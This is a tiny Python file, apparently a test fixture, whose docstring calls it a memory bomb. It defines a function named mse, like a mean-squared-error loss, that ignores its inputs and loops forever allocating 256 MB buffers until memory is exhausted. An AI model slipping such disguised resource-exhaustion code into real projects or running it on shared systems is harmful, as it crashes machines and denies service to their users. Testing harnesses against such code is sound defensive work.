"""A memory bomb."""

hoard = []


def mse(y_true, y_pred):
    while True:
        hoard.append(bytearray(2**28))
